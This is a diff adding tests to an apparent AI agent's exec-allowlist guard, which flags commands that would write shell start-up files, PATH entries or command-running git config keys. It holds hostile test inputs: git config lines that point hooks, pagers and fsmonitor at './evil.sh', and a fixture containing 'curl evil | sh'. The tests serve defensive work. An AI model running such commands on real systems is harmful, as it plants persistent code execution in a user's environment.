@@ -2,6 +2,7 @@
 // once: `cp*` or `git config*` on the allowlist must not write ~/.bashrc or ~/.gitconfig without an approval.
 // Real files in a temp HOME.
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
+import os from 'node:os'
 import path from 'node:path'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import type { ExecApprovalRequest } from '../../../shared/events'
@@ -61,6 +62,36 @@ describe('exec: allow-listed commands that would write files that run code later
     expect(allowlistStartupReason('git config user.name me', sb.ws)).toBeUndefined()
   })
 
+  it("a repository `git config` write of a key that names a command asks (the next `git status` would run it); harmless keys and reads do not", () => {
+    const why = (cmd: string) => allowlistStartupReason(cmd, sb.ws)
+    for (const cmd of [
+      'git config core.fsmonitor ./evil.sh',
+      'git config --local core.hooksPath .githooks',
+      'git config alias.st !./evil.sh',
+      'git config --add filter.x.clean ./evil.sh',
+      'git config set core.pager ./evil.sh',
+      'git config --type=path diff.external ./evil.sh',
+      'git -C sub config remote.origin.uploadpack ./evil.sh',
+      'git config hook.pre-commit.command ./evil.sh',
+    ]) {
+      expect(why(cmd), cmd).toMatch(/which can name a command git runs/)
+    }
+    for (const cmd of [
+      'git config user.email me@example.com',
+      'git config core.autocrlf input',
+      'git config --type bool core.filemode false',
+      'git config --type=bool core.filemode false',
+      'git config branch.main.rebase true',
+      'git config remote.origin.url git@example.com:me/repo.git',
+      'git config merge.conflictStyle zdiff3',
+      'git config core.fsmonitor',
+      'git config --get core.pager',
+      'git config --unset core.fsmonitor',
+    ]) {
+      expect(why(cmd), cmd).toBeUndefined()
+    }
+  })
+
   it('names them by path, ~, quotes split apart, --opt=value, a glob that could reach one, and what ~/.gitconfig includes', () => {
     mkdirSync(path.join(home, 'dot'))
     writeFileSync(path.join(home, '.gitconfig'), '[include]\n\tpath = dot/extra\n')
@@ -77,6 +108,46 @@ describe('exec: allow-listed commands that would write files that run code later
     expect(why('cp a.ts b.ts')).toBeUndefined()
     expect(why('ls src/*.ts')).toBeUndefined()
     expect(why('cat ~/notes.txt')).toBeUndefined()
+  })
+
+  it('names them as the shell spells them: ~user, a glued short option, a quoted path with spaces', () => {
+    const user = os.userInfo().username
+    const why = (cmd: string) => allowlistStartupReason(cmd, sb.ws)
+    expect(why(`cp x ~${user}/.bashrc`)).toMatch(/\.bashrc/)
+    expect(why(`sort -o${home}/.profile x`)).toMatch(/\.profile/)
+    expect(why('sort -o~/.profile x')).toMatch(/\.profile/)
+    mkdirSync(path.join(home, 'my tools'))
+    const saved = process.env.PATH
+    process.env.PATH = [path.join(home, 'my tools'), '/usr/bin'].join(path.delimiter)
+    try {
+      expect(why(`cp x "${home}/my tools/ls"`)).toMatch(/a folder on your PATH/)
+      expect(why(`cp x '${home}/my tools/ls'`)).toMatch(/a folder on your PATH/)
+    } finally {
+      process.env.PATH = saved
+    }
+    // another user's ~ is theirs, and a quoted word stays one word
+    expect(why('cp x ~nosuchuser0/.bashrc')).toBeUndefined()
+    expect(why('echo "a b" c')).toBeUndefined()
+  })
+
+  it('a copy, move or unpack into a folder that holds a start-up file asks (`cp payload/.bashrc ~/`); reading it does not', async () => {
+    mkdirSync(path.join(sb.ws, 'payload'))
+    writeFileSync(path.join(sb.ws, 'payload/.bashrc'), 'curl evil | sh\n')
+    writeFileSync(path.join(home, '.bashrc'), '# mine\n')
+    const ctx = makeCtx(sb.ws, { execAllowlist: ['cp*'] })
+    const p = run(ctx, 'exec', { command: 'cp payload/.bashrc ~/' })
+    ctx.broker.resolve((await nextRequest(ctx)).id, 'deny')
+    await expect(p).rejects.toThrow(/denied/)
+    expect(readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('# mine\n')
+    const why = (cmd: string) => allowlistStartupReason(cmd, sb.ws)
+    expect(why('cp payload/.bashrc ~/')).toMatch(/may write into ~\/, which holds shell start-up file/)
+    expect(why('cp -t ~ payload/.profile')).toMatch(/may write into/)
+    expect(why('tar -xf a.tar -C ~/.config')).toMatch(/may write into/)
+    expect(why('rsync -a payload/ ..')).toMatch(/may write into/)
+    // reading a folder that holds one, or copying inside the project, is not asked about
+    expect(why('ls ~')).toBeUndefined()
+    expect(why('grep -r TODO ~/notes')).toBeUndefined()
+    expect(why('cp -r payload backup')).toBeUndefined()
   })
 
   it('a lone "*" allowlist (approvals off) is left as the user set it', async () => {
